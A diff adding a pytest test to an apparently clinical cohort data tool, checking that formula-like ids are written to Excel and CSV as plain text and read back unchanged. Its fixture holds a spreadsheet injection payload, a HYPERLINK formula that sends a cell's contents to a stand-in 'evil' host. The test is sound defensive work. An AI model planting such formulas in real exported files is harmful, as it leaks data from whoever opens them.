@@ -295,6 +295,31 @@ def test_workbook_and_csv_round_trip_the_records(tmp_path: Path, make_cohort: An
     assert from_workbook[0].location == f"{tmp_path / 'cohort.xlsx'}[patients 患者]:2"
 
 
+def test_filled_templates_hold_formula_like_ids_as_text_and_read_them_back(
+    tmp_path: Path, make_cohort: Any
+) -> None:
+    """Issue 13 item 3: no formula cell in the workbook, a quoted cell in the CSV, and both
+    read back as the id that was written."""
+    from openpyxl import load_workbook
+
+    data = make_cohort(1, seed=3)[0]
+    data["id"] = '=HYPERLINK("http://evil/?"&A1,"x")'
+    data["source"] = "-2+3"
+    record = parse_record(data, today=TODAY)
+    write_workbook(tmp_path / "cohort.xlsx", [record.to_json_dict()])
+    write_csv_set(tmp_path / "csv", [record.to_json_dict()])
+
+    book = load_workbook(tmp_path / "cohort.xlsx")
+    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    with (tmp_path / "csv" / "patients.csv").open(encoding="utf-8-sig", newline="") as stream:
+        row = list(csv.reader(stream))[1]
+    assert "'" + data["id"] in row and "'-2+3" in row
+    members = sorted((tmp_path / "csv").glob("*.csv"))
+    for raw in [*read_workbook(tmp_path / "cohort.xlsx"), *read_csv_set(tmp_path / "csv", members)]:
+        assert parse_record(raw.data, today=TODAY) == record
+
+
 def test_template_rows_flatten_a_record(make_cohort: Any) -> None:
     records = [parse_record(data, today=TODAY) for data in make_cohort(20)]
     data = next(r for r in records if r.events.bta and r.cancer.drivers).to_json_dict()
